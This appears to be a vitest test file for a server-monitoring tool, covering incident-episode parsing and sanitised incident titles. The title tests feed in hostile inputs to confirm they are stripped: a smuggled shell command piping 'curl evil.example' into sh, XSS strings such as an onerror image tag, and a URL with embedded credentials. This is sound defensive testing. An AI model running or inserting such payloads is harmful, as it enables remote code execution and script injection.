import { describe, expect, it } from 'vitest';
import { emptyMemory, emptyServerState } from '../../../../src/core/memory/memory.js';
import { incidentTitle, type TitleContext } from '../../../../src/core/render/incident-title.js';
import { newRunRecord, type RunRecord, type TrackedFinding } from '../../../../src/core/run-record.js';
import { incidentEpisodes } from '../../../../src/core/state-branch/incidents.js';
import { issueFileChanges, parseIssueFile } from '../../../../src/core/state-branch/issue-files.js';

function record(at: string, findings: TrackedFinding[], resolved: TrackedFinding[] = []): RunRecord {
  return newRunRecord({
    runId: at.slice(11, 16),
    task: 'check',
    mode: 'safe',
    dryRun: false,
    startedAt: at,
    finishedAt: at,
    findings,
    resolved,
  });
}

const nginx = (over: Partial<TrackedFinding>): TrackedFinding => ({
  fingerprint: 'web1/service/nginx',
  server: 'web1',
  check: 'service',
  target: 'nginx',
  severity: 'warning',
  summary: 'nginx (systemd): activating, 3 restarts in /etc/nginx/sites-enabled',
  lifecycle: 'new',
  firstSeen: '2026-11-20T10:00:00.000Z',
  runs: 1,
  ...over,
});

/** One issue file carried through runs as the pipeline writes it: each run's change on the last. */
function story(runs: RunRecord[]): string {
  let content = '';
  const memory = emptyMemory();
  memory.servers.web1 = emptyServerState('web1');
  for (const run of runs) {
    if (content) memory.openIssues = [{ path: 'issues/web1--service--nginx.md', content }];
    const change = issueFileChanges(run, memory)[0];
    if (change?.content) content = change.content;
    const f = run.findings[0];
    if (f && memory.servers.web1)
      memory.servers.web1.findings[f.fingerprint] = {
        status: 'ongoing',
        severity: f.severity,
        firstSeen: f.firstSeen,
        lastSeen: run.startedAt,
        streak: 1,
        okStreak: 0,
        history: [],
        summary: f.summary,
      };
  }
  return content;
}

describe('incident episodes from issue files the pipeline wrote', () => {
  it('opened, worsened, resolved, opened again: two episodes, the first critical and closed', () => {
    const text = story([
      record('2026-11-20T10:00:00.000Z', [nginx({})]),
      record('2026-11-20T12:00:00.000Z', [nginx({ lifecycle: 'ongoing', severity: 'critical' })]),
      record('2026-11-20T16:30:00.000Z', [], [nginx({ lifecycle: 'resolved', severity: 'ok' })]),
      record('2026-11-22T08:00:00.000Z', [nginx({ firstSeen: '2026-11-22T08:00:00.000Z' })]),
    ]);
    const doc = parseIssueFile(text);
    expect(doc?.meta.status).toBe('open');
    const episodes = incidentEpisodes(doc ?? ({} as never));
    expect(episodes.map(({ severity, start, end }) => ({ severity, start, end }))).toEqual([
      { severity: 'critical', start: '2026-11-20T10:00:00.000Z', end: '2026-11-20T16:30:00.000Z' },
      { severity: 'warning', start: '2026-11-22T08:00:00.000Z', end: undefined },
    ]);
  });

  it('a file whose history lines say nothing usable falls back to its front matter', () => {
    const doc = parseIssueFile(
      story([
        record('2026-11-20T10:00:00.000Z', [nginx({ severity: 'critical' })]),
        record('2026-11-20T11:00:00.000Z', [], [nginx({ lifecycle: 'resolved', severity: 'ok' })]),
      ]),
    );
    if (!doc) throw new Error('no issue file');
    const bare = { ...doc, history: ['- not a time — opened (critical): x', '- <script> — resolved'] };
    expect(incidentEpisodes(bare)).toEqual([
      expect.objectContaining({ start: doc.meta.first_seen, end: doc.meta.last_seen, severity: 'critical' }),
    ]);
  });
});

describe('incident titles are written by code', () => {
  const context: TitleContext = {
    servers: new Set(['web1', 'db1']),
    endpoints: new Map([['web1', new Map([['https://shop.example/health', 'https://shop.example/health']])]]),
  };
  const title = (check: string, target: string, over: Partial<Parameters<typeof incidentTitle>[0]> = {}) =>
    incidentTitle({ check, target, servers: ['web1'], severity: 'critical', open: true, ...over }, context);

  it('names the configured thing, the server and the state, in the tense of the incident', () => {
    expect(title('service', 'nginx')).toBe('nginx on web1 is down');
    expect(title('service', 'nginx', { open: false })).toBe('nginx on web1 was down');
    expect(title('unreachable', '-')).toBe('web1 is unreachable');
    expect(title('endpoint', 'https://shop.example/health', { severity: 'warning' })).toBe(
      'https://shop.example/health on web1 is slow',
    );
    expect(title('updates', 'security', { severity: 'warning', open: false })).toBe(
      'Security updates on web1 were pending',
    );
    expect(title('database', 'postgres', { servers: ['web1', 'db1'] })).toBe('postgres on web1, db1 is down');
  });

  it('never repeats a path, a summary, an unknown server or an unlisted URL', () => {
    expect(title('disk', '/home/alice/.ssh')).toBe('Disk space on web1 is critically low');
    expect(title('log', '/var/log/app/secret.log', { severity: 'warning' })).toBe(
      'Logs on web1 are reporting errors',
    );
    expect(title('heartbeat', '/var/run/backup.heartbeat')).toBe('A heartbeat on web1 is missing or late');
    expect(title('endpoint', 'https://admin:pw@internal.example/x')).toBe('An endpoint on web1 is failing');
    expect(title('service', 'nginx; curl evil.example|sh')).toBe('A service on web1 is down');
    expect(title('service', 'nginx', { servers: ['<img src=x onerror=alert(1)>'] })).toBe(
      'nginx on a server is down',
    );
    expect(title('<script>', 'x')).toBe('A check on web1 is failing');
  });
});
